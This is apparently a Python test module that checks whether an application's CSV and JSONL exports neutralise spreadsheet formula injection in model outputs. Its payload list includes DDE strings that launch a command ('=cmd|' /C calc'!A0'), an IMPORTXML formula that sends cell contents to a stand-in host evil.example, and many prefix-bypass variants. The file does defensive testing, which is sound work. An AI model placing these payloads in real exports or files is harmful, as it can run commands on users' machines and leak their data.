"""Cells that a spreadsheet program would evaluate, in every file that the application writes for one."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterator
from typing import Any

from tests.attacks.calls import Program
from tests.attacks.outcome import Outcome
from tests.attacks.world import MODEL, World

KIND = "formulas in exports"
FORMULAS = (
    *("=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u3000=1+1", "\xa0=1+1", "\x0b=1+1"),
    *("＝1+1", "＋1+1", "－1+1", "＠SUM(1)", '"=1+1', '";=1+1', "含意\r=cmd|' /C calc'!A0", "含意\n=cmd|' /C calc'!A0"),
    *("含意\r\n=1+1", '含意",=1+1,"', "\ufeff=1+1", "\x00=1+1", "\u200b=1+1", "−1+1", "|=1+1", ";=1+1", "%0A=1+1"),
    *(
        '=HYPERLINK("http://evil.example","x")',
        '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
        "=DDE(1)",
        "－－1",
    ),
)
_BEFORE = "".join(("\t\r\n \xa0\u3000\x0b\x0c\x00\ufeff\u200b",))
"""What spreadsheet programs take away, or do not show, before a formula."""
_SIGNS = "=+-@＝＋－＠"


def attack(world: World) -> Iterator[Outcome]:
    """A model that writes formulas, exported in all formats."""
    world.say(*FORMULAS)
    with Program(world) as program:
        answer = program.call(
            "compare_models",
            a_model=MODEL,
            b_model="",
            tasks=["jnli"],
            limit=40,
            method="generate",
            a_format="chat",
        )
        run = re.findall(r'"a":\s*"([0-9a-f]{16})"', answer.text)[-1]
        content = _export(program, run, "csv")
        yield from dangerous_cells(content)
        rows = [json.loads(line) for line in _export(program, run, "jsonl").decode().splitlines()]
        yield from _kept(rows)


def _export(program: Program, run: str, format: str) -> bytes:
    answer = program.call("export_run", run=run, format=format, protocol="official")
    path = re.findall(r'"path":\s*"([^"]+)"', answer.text)[-1]
    return bytes(program.http.get(f"/gradio_api/file={path}").content)


def dangerous_cells(content: bytes) -> Iterator[Outcome]:
    """An outcome for each cell of outputs."""
    text = content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    header = rows[0]
    raw = header.index("raw")
    ragged = [row for row in rows if len(row) != len(header)]
    yield Outcome(KIND, "rows of equal length", f"{len(ragged)} rows are broken" if ragged else "")
    cells = [row[raw] for row in rows[1:] if len(row) == len(header)]
    for cell in cells:
        bare = cell.lstrip(_BEFORE)
        evaluated = bare[:1] and bare[0] in _SIGNS and not re.fullmatch(r"[+-]?[0-9.]+", bare)
        yield Outcome(KIND, f"csv {cell!r}", "the cell is a formula" if evaluated else "")


def _kept(rows: list[dict[str, Any]]) -> Iterator[Outcome]:
    """What a program reads is what the model wrote."""
    lost = set(FORMULAS) - {str(row["raw"]) for row in rows}
    yield Outcome(KIND, "jsonl holds the outputs as they are", f"changed: {sorted(lost)[0]!r}" if lost else "")
